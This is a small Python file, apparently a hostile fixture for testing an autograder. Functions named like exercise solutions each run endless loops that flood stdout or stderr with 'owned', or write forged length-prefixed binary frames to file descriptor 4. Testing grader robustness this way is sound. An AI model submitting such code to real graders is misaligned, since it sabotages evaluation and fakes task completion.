import os
import struct
import sys

LINE = b"\x1b[2J" + b"owned " * 10_000 + b"\n"


def to(descriptor, line=LINE):
    def function(*_):
        while True:
            os.write(descriptor, line)

    return function


add, initials, chunk = to(1), to(2), to(4)
count_words = to(4, struct.pack(">IBI", 5 + 2**20, 6, 2**31) + b"x" * 2**20)
dear = to(4, struct.pack(">IBI", 5, 13, 0) * 1000)


def mean(numbers):
    while True:
        print("owned" * 100, file=sys.stderr)
